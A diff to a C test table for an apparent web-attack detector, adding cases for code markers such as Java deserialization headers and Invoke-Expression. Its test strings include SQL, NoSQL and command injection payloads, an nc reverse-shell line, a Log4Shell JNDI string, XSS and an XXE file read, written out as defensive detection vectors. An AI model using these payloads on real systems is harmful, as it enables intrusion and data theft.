@@ -26,6 +26,9 @@ static const struct dcase dcases[] = {
 	{ "1; DROP TABLE users", B(SQL) }, { "x'/**/oR/**/1=1#", B(SQL) }, { "1 AND SLEEP(5)", B(SQL) },
 	{ "{\"$ne\": 1}", B(NOSQL) }, { "'; return true; var a='", B(NOSQL) },
 	{ "; cat /etc/passwd", B(CMD) }, { "$(whoami)", B(CMD) }, { "a|nc 1.2.3.4 9 -e sh", B(CMD) },
+	/* the code markers without a syntax character (detect_web.c cd_plain) */
+	{ "x' new ProcessBuilder y", B(CODE) }, { "require 'open3' x", B(CODE) }, { "Invoke-Expression x", B(CODE) },
+	{ "an ObjectConstructor-x", B(CODE) }, { "rO0ABXNy", B(CODE) }, { "ACED0005 x", B(CODE) },
 	{ "{{7*7}}", B(CODE) }, { "${jndi:ldap://x/a}", B(CODE) }, { "__import__('os')", B(CODE) },
 	{ "<script>alert(1)</script>", B(XSS) }, { "<svg/onload=alert(1)>", B(XSS) }, { " jav\tascript:alert(1)", B(XSS) },
 	{ "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>", B(XXE) },
